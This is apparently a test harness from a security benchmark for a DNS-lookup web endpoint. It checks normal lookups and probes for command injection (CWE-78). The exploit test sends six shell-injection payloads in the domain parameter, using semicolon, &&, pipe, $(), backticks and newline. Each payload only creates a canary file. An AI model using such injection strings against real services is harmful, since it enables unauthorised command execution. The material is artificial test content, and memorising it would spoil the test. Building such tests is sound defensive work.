"""Harness for cmd-dns-lookup-endpoint: GET /tools/lookup?domain= runs nslookup (a stand-in on PATH)."""

import os

from hlib import Exploited, Harness, expect, text_of

FAKE_NSLOOKUP = """
last=""
for a in "$@"; do last="$a"; done
echo "Server:  127.0.0.53"
echo "Name:    $last"
echo "Address: 93.184.216.34"
"""


def setup(ctx):
    ctx.fake_bin("nslookup", FAKE_NSLOOKUP)


HARNESS = Harness("cmd-dns-lookup-endpoint", setup)


@HARNESS.functional
def looks_up(ctx):
    resp = ctx.client().get("/tools/lookup?domain=example.org")
    body = text_of(resp)
    expect(resp.status_code == 200, f"status {resp.status_code}")
    expect("93.184.216.34" in body and "example.org" in body, f"nslookup output not returned: {body[:120]!r}")


@HARNESS.functional
def subdomain(ctx):
    resp = ctx.client().get("/tools/lookup", query_string={"domain": "mail.example-shop.co.uk"})
    expect(resp.status_code == 200 and "93.184.216.34" in text_of(resp), f"status {resp.status_code}")


@HARNESS.exploit("command-injection", cwe="CWE-78")
def inject(ctx):
    canary = ctx.canary()
    client = ctx.client()
    for payload in (f"example.org; touch {canary}", f"example.org && touch {canary}", f"example.org|touch {canary}",
                    f"$(touch {canary})", f"`touch {canary}`", f"example.org\ntouch {canary}"):
        client.get("/tools/lookup", query_string={"domain": payload})
        if os.path.exists(canary):
            return Exploited(payload, "a shell command in the domain ran: the canary file was created")


if __name__ == "__main__":
    HARNESS.main()
